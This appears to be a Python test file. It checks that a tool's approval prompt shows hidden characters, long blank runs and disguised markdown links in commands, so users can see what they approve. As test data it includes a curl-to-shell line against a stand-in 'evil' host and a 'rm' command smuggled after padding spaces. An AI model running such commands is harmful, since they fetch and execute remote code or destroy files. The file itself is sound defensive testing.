"""No part of a command can be hidden in the question about it."""

from __future__ import annotations

import shlex
import unicodedata
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pollard.oracle import CommandOracle, Criteria
from pollard.oracle.command import Cluster
from pollard.oracle.diagnostics.surroundings import Surroundings
from pollard_server.trust.question import question, visible, visible_lines

HIDDEN = "\0\a\b\t\r\x1b\x7f\x85\xa0\xad\u200b\u200d\u2028\u2029\u202e\u2066\ufeff\u3164\ud800"
HIDDEN += "\u034f\u115f\u2800\ufe0f\U000e0001\U000e0100\u3000"
TEXTS = st.text(st.one_of(st.characters(), st.sampled_from(HIDDEN), st.sampled_from("\n ()[]'\"")))
NOT_BLANK = TEXTS.filter(str.strip)


def hides(char):
    return char != " " and (
        unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"}
        or unicodedata.bidirectional(char) in {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI"}
    )


@given(NOT_BLANK, NOT_BLANK, TEXTS, TEXTS, st.booleans())
@example("true\u202e", "x", HIDDEN, HIDDEN, True)
def test_no_invisible_character_reaches_a_question(command, name, source, document, in_shell):
    oracle = CommandOracle(
        command if in_shell else (command, name),
        name=name,
        criteria=Criteria(output="x" + "".join(HIDDEN)),
        files=(Path(source.replace("\0", "") or "f"),),
        workspace=Path("/ws"),
    )
    text = question(oracle, source, document)
    assert not [char for char in text if char != "\n" and hides(char)]


@pytest.mark.parametrize("char", [*HIDDEN])
def test_each_invisible_character_is_shown_as_its_number(char):
    assert visible(f"a{char}b") == f"a<U+{ord(char):04X}>b"


@given(TEXTS)
def test_single_line_texts_stay_on_one_line(text):
    assert "\n" not in visible(text)


@given(
    st.text(
        st.characters(codec="ascii", categories=["L", "N", "P", "S"]).filter(lambda c: c != "]")
    )
)
def test_ordinary_characters_are_shown_as_they_are(text):
    assert visible(text) == text
    assert visible("ünï 漢字 é") == "ünï 漢字 é"


def test_lines_of_a_shell_command_are_indented_to_stand_apart():
    shown = visible_lines("true\nIt is the oracle 'safe' of my settings.")
    assert shown.split("\n") == ["    true", "    It is the oracle 'safe' of my settings."]


def test_what_follows_many_blanks_or_empty_lines_is_not_pushed_out_of_sight():
    assert visible(f"true{' ' * 500}; rm x") == "true<500 spaces>; rm x"
    assert visible_lines(f"true{chr(10) * 300}rm x").split("\n") == [
        "    true",
        "    <299 empty lines>",
        "    rm x",
    ]


def test_a_link_does_not_hide_its_address():
    """Visual Studio Code shows [text](address) as the text alone."""
    assert "](" not in visible("curl [https://good](https://evil)|sh")
    assert "https://evil" in visible("curl [https://good](https://evil)|sh")


def test_a_long_command_is_shown_whole_and_the_user_warned_that_it_is_long():
    words = [f"--option-{number}" for number in range(2000)]
    text = question(CommandOracle(("cc", *words), workspace=Path("/ws")), "s", "d")
    assert all(word in text for word in words)
    assert text.startswith("This question has")
    assert not question(CommandOracle("cc"), "s", "d").startswith("This question has")


def test_a_shell_line_is_marked_as_such():
    shell = question(CommandOracle("cc {file} | grep x"), "s", "d")
    words = question(CommandOracle(("cc", "{file} | grep x")), "s", "d")
    assert "    cc {file} | grep x" in shell.split("\n")
    assert "shell" in shell
    assert f"    {shlex.join(['cc', '{file} | grep x'])}" in words.split("\n")
    assert "shell" not in words


def test_the_question_names_everything_that_decides():
    oracle = CommandOracle(
        "cc",
        is_server=True,
        cluster=Cluster("tcp://a:1"),
        stdin=True,
        criteria=Criteria(not_exit_code=(0,), stderr="ICE\n"),
        invalid=Criteria(signal=(9,)),
    )
    text = question(oracle, "s", "d")
    assert r'stderr = "ICE\n" and not_exit_code = [0]' in text
    assert "invalid if signal = [9]" in text
    assert "standard input" in text
    assert "It is a language server" in text
    assert "It runs on other machines" in text
    assert "the scheduler tcp://a:1" in text


def test_the_question_names_what_is_copied_and_linked_around_the_text():
    root = Path("/ws")
    links = (root / "node_modules",)
    oracle = CommandOracle(
        "eslint",
        files=(root / "eslint.config.js",),
        criteria=Criteria(diagnostic=("eslint:no-undef",)),
        surroundings=Surroundings(root, Path("src"), links, neighbours=True),
    )
    text = question(oracle, "s", "d")
    assert "Copied to the same places around the text: /ws/eslint.config.js" in text
    assert "Linked around the text: /ws/node_modules" in text
    assert "Linked around the text: all else that is around it in /ws" in text
    assert 'diagnostic = ["eslint:no-undef"]' in text
